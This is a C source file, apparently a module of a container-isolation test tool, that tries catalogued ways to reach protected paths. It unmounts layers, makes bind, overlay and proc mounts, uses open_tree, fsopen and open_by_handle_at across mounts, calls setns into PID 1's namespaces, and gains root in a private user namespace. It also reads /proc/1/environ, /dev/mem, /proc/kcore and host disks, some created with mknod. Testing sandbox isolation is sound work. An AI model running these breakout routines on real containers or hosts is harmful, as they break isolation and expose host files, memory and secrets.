/* Ways to a value through mounts, namespaces and file handles, as main and as
 * root of a user namespace of its own. Catalogue rows S3 to S6, S12, S16, S19.
 *
 * Never: a mount that stays: what is changed in the container's own namespace
 * is put back; everything else happens in a namespace that ends with its process.
 */
#include "thief.h"
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

/* linux/mount.h and sys/mount.h cannot be included together everywhere. */
enum { CLONE_TREE = 1, RECURSIVE = 0x8000, EMPTY_PATH = 0x1000, MOVE_FROM_EMPTY = 4, SET_STRING = 1, CREATE = 6 };

static void read_opened(const char *where, int directory, const char *name) {
    int file = (int)step(where, openat(directory, name, O_RDONLY | O_CLOEXEC | O_NONBLOCK));
    if (file < 0) return;
    read_descriptor(where, file);
    close(file);
}

/* Peels whatever lies over the place, or over the directory, layer by layer. */
static void unmount_and_read(const char *path) {
    char directory[NAME], parent[NAME];
    int flags[] = {0, MNT_DETACH, MNT_FORCE, UMOUNT_NOFOLLOW};
    split(path, directory);
    split(directory, parent);
    const char *targets[] = {path, directory, parent};
    for (int layer = 0; layer < 4; layer++)
        for (size_t i = 0; i < 3; i++) {
            if (*targets[i] == 0) continue;
            for (size_t way = 0; way < sizeof flags / sizeof *flags; way++)
                if (step("umount", umount2(targets[i], flags[way])) == 0) read_path(path);
        }
}

/* What of these works is undone with the namespace that the process is in. */
static void bind_and_read(const char *path) {
    char directory[NAME], target[64], inside[2 * NAME], options[4 * NAME];
    const char *name = split(path, directory);
    const char *shelters[] = {"/tmp", "/dev/shm", "/run"};
    for (size_t i = 0; i < 3; i++) {
        snprintf(target, sizeof target, "%s/bound-%d", shelters[i], getpid());
        if (step(target, mkdir(target, 0755)) != 0) continue;
        snprintf(inside, sizeof inside, "%s/%s", target, name);
        if (step("bind mount", mount(directory, target, NULL, MS_BIND | MS_REC, NULL)) == 0) {
            read_path(inside);
            umount2(target, MNT_DETACH);
        }
        snprintf(options, sizeof options, "lowerdir=%s:/tmp", directory);
        if (step("overlay mount", mount("overlay", target, "overlay", 0, options)) == 0) {
            read_path(inside);
            umount2(target, MNT_DETACH);
        }
        if (step("proc mount", mount("proc", target, "proc", 0, NULL)) == 0) {
            snprintf(inside, sizeof inside, "%s/1/environ", target);
            read_path(inside);
            snprintf(inside, sizeof inside, "%s/1/root%s", target, path);
            read_path(inside);
            umount2(target, MNT_DETACH);
        }
        rmdir(target);
    }
}

/* Mounts that are attached nowhere: no path leads to them. */
static void clone_tree_and_read(const char *path) {
    char directory[NAME], parent[NAME], inside[2 * NAME];
    const char *name = split(path, directory), *last = split(directory, parent);
    int tree = (int)step("open_tree", syscall(SYS_open_tree, AT_FDCWD, directory, CLONE_TREE | RECURSIVE));
    if (tree >= 0) {
        read_opened("open_tree", tree, name);
        snprintf(inside, sizeof inside, "/proc/self/fd/%d/%s", tree, name);
        read_path(inside);
        if (step("move_mount", syscall(SYS_move_mount, tree, "", AT_FDCWD, "/tmp", MOVE_FROM_EMPTY)) == 0) {
            snprintf(inside, sizeof inside, "/tmp/%s", name);
            read_path(inside);
            umount2("/tmp", MNT_DETACH);
        }
        close(tree);
    }
    tree = (int)step("open_tree", syscall(SYS_open_tree, AT_FDCWD, *parent ? parent : "/", CLONE_TREE));
    snprintf(inside, sizeof inside, "%s/%s", last, name);
    if (tree >= 0) read_opened("open_tree of the directory above", tree, inside);
    tree = (int)step("open_tree", syscall(SYS_open_tree, AT_FDCWD, path, CLONE_TREE));
    if (tree >= 0) {
        snprintf(inside, sizeof inside, "/proc/self/fd/%d", tree);
        read_path(inside);
    }
}

static void overlay_nowhere(const char *path) {
    char directory[NAME], options[2 * NAME];
    const char *name = split(path, directory);
    int context = (int)step("fsopen", syscall(SYS_fsopen, "overlay", 0));
    if (context < 0) return;
    snprintf(options, sizeof options, "%s:/tmp", directory);
    step("fsconfig", syscall(SYS_fsconfig, context, SET_STRING, "lowerdir", options, 0));
    if (step("fsconfig", syscall(SYS_fsconfig, context, CREATE, NULL, NULL, 0)) != 0) return;
    int overlay = (int)step("fsmount", syscall(SYS_fsmount, context, 0, 0));
    if (overlay >= 0) read_opened("an overlay that is mounted nowhere", overlay, name);
}

struct handle_of_file {
    struct file_handle handle;
    unsigned char rest[128];
};

/* The file by its handle, through every mount that shares its file system. */
static void open_by_handle(const char *path) {
    struct handle_of_file file = {.handle.handle_bytes = 128};
    char line[4096], point[NAME];
    int mount_id;
    if (step("name_to_handle_at", name_to_handle_at(AT_FDCWD, path, &file.handle, &mount_id, 0)) != 0) return;
    FILE *mounts = fopen("/proc/self/mountinfo", "re");
    while (mounts && fgets(line, sizeof line, mounts)) {
        if (sscanf(line, "%*d %*d %*s %*s %255s", point) != 1) continue;
        int through = open(point, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
        if (through < 0) continue;
        int opened = (int)step("open_by_handle_at", open_by_handle_at(through, &file.handle, O_RDONLY));
        if (opened >= 0) read_descriptor("open_by_handle_at", opened);
        close(through);
    }
    if (mounts) fclose(mounts);
}

static void every_way(const char *path) {
    read_path(path);
    bind_and_read(path);
    clone_tree_and_read(path);
    overlay_nowhere(path);
    open_by_handle(path);
    if (chroot(".") == 0) read_path(path);
    unmount_and_read(path);
}

static void write_line(const char *path, const char *format, unsigned int id) {
    char text[64];
    int file = open(path, O_WRONLY | O_CLOEXEC), size = snprintf(text, sizeof text, format, id);
    if (file < 0 || write(file, text, (size_t)size) != size) step(path, -1);
    if (file >= 0) close(file);
}

/* Root in a user namespace of its own, where most of mount(2) is allowed. */
static void in_own_namespace(const char *path) {
    unsigned int user = geteuid(), group = getegid();
    if (step("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS)) != 0) return;
    write_line("/proc/self/setgroups", "deny", 0);
    write_line("/proc/self/uid_map", "0 %u 1\n", user);
    write_line("/proc/self/gid_map", "0 %u 1\n", group);
    mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
    every_way(path);
}

static void in_own_mount_namespace(const char *path) {
    if (step("unshare", unshare(CLONE_NEWNS)) != 0) return;
    step("private mounts", mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL));
    every_way(path);
}

static void in_namespace_of_pid_1(const char *path) {
    int spaces[] = {CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWUSER | CLONE_NEWNS};
    int process = (int)step("pidfd_open", syscall(SYS_pidfd_open, 1, 0));
    for (size_t i = 0; i < 3; i++)
        if (step("setns", setns(process, spaces[i])) == 0) read_path(path);
    int space = (int)step("/proc/1/ns/mnt", open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC));
    if (space >= 0 && step("setns", setns(space, CLONE_NEWNS)) == 0) read_path(path);
}

static void of_each_place(void (*attempt)(const char *)) {
    for (int i = 0; i < place_count; i++)
        if (strchr("pa", places[i].kind)) apart(attempt, places[i].path);
}

static void unmounting(void) { of_each_place(unmount_and_read); }
static void binding(void) { of_each_place(bind_and_read); }
static void cloning(void) { of_each_place(clone_tree_and_read); }
static void overlaying(void) { of_each_place(overlay_nowhere); }
static void own_namespace(void) { of_each_place(in_own_namespace); }
static void own_mount_namespace(void) { of_each_place(in_own_mount_namespace); }
static void foreign_namespace(void) { of_each_place(in_namespace_of_pid_1); }
static void handles(void) { of_each_place(open_by_handle); }

/* A disk of the host, or memory itself: opening one is enough. */
static void devices(void) {
    char line[256], name[64], node[64];
    unsigned int major_number, minor_number;
    const char *known[] = {"/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"};
    for (size_t i = 0; i < sizeof known / sizeof *known; i++) {
        int file = (int)step(known[i], open(known[i], O_RDONLY | O_CLOEXEC));
        char piece[16];
        if (file >= 0 && read(file, piece, sizeof piece) > 0) took("%s", known[i]);
    }
    FILE *disks = fopen("/proc/partitions", "re");
    while (disks && fgets(line, sizeof line, disks)) {
        if (sscanf(line, "%u %u %*u %63s", &major_number, &minor_number, name) != 3) continue;
        snprintf(node, sizeof node, "/dev/%.50s", name);
        if (step(node, open(node, O_RDONLY | O_CLOEXEC)) >= 0) took("%s", node);
        snprintf(node, sizeof node, "/tmp/disk-%d", getpid());
        if (step("mknod", mknod(node, S_IFBLK | 0600, makedev(major_number, minor_number))) != 0) continue;
        long opened = step("a device made by mknod", open(node, O_RDONLY | O_CLOEXEC));
        unlink(node);
        if (opened >= 0) took("%s, made by mknod", name);
    }
    if (disks) fclose(disks);
}

const struct attack mount_attacks[] = {
    {"S4", "bind, overlay and proc mounts", binding},
    {"S6", "open_tree and move_mount", cloning},
    {"S6", "overlay that is mounted nowhere", overlaying},
    {"S6", "mount namespace of PID 1", foreign_namespace},
    {"S12", "own user and mount namespace", own_namespace},
    {"S12", "own mount namespace", own_mount_namespace},
    {"S16", "disks and memory as devices", devices},
    {"S19", "file handles", handles},
    /* Last: what it takes away stays away for the rest. */
    {"S3", "umount", unmounting},
    {NULL, NULL, NULL},
};
